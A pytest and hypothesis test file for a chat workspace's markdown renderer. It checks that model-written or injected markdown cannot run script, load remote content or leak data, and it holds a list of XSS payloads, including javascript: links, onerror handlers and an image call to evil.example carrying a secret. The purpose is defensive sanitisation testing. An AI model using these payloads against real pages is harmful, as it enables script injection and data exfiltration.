"""What a model (or whoever whispers to it) writes cannot act in the page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nezuku.workspace.chat.markdown.drawing import render
from nezuku.workspace.chat.markdown.formulas import mathml

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>a</a>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=a></form>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](  JaVaScRiPt:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](/people/sign-out/)",
    "[a](//evil.example/x)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "![a](https://evil.example/?q=secret)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](/static/x.png)",
    "[![a](https://evil.example/p.png)](https://good.example/)",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\style{background:url(https://evil.example)}{x}$",
    "$\\class{is-primary}{x}$",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '| a |\n|---|\n| <b onmouseover="x"> |',
    "[^<script>]: x\n\n[^<script>]",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "\\(<img src=x onerror=alert(1)>\\)",
]
TAGS_OF_SCRIPT = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "img",
    "svg",
    "link",
    "meta",
}


class _Watch(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in TAGS_OF_SCRIPT:
            self.faults.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "src", "formaction"}:
                self.faults.append(name)
            if name == "href" and not re.match(r"(?:https?://|mailto:|#fn)", value or ""):
                self.faults.append(f"href={value}")


def faults(html: str) -> list[str]:
    watch = _Watch()
    watch.feed(html)
    return watch.faults


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_it_acts(attack: str) -> None:
    assert faults(render(attack)) == []


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([*ATTACKS, "\n", "> ", "- ", "`", "**", "$", "|"]), max_size=6))
def test_nothing_in_any_mixture_acts(parts: list[str]) -> None:
    assert faults(render("".join(parts))) == []


def test_a_picture_elsewhere_becomes_a_link_that_names_its_host() -> None:
    html = render("![図](https://evil.example/?q=secret)")
    assert "<img" not in html
    assert "画像：図</a>" in html
    assert "(evil.example)" in html


def test_a_link_whose_words_name_another_host_tells_where_it_leads() -> None:
    assert "(bad.example)" in render("[www.good.example](https://bad.example/)")
    assert "link-host" not in render("[www.good.example](https://good.example/a)")
    assert "link-host" not in render("[資料](https://good.example/a)")


def test_links_open_elsewhere_and_tell_nothing() -> None:
    html = render("[資料](https://good.example/a)")
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


@pytest.mark.parametrize(
    "source", ["\\href{javascript:alert(1)}{x}", "\\text{<b>}", "\\unicode{x}"]
)
def test_a_formula_brings_no_markup_of_its_own(source: str) -> None:
    assert faults(render(f"${source}$")) == []
    assert "<b>" not in mathml(source, block=False)


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "[a](",
        "*a_",
        "`",
        "$$",
        "\\(",
        "> ",
        "- ",
        "|",
        "[^a]",
        "(((",
        "<",
        "~~",
        "  - a\n",
    ],
)
def test_nesting_without_end_is_read_to_its_end(piece: str) -> None:
    assert faults(render(piece * (19_000 // len(piece)))) == []
    assert faults(render(f"{piece}\n" * (19_000 // len(piece)))) == []
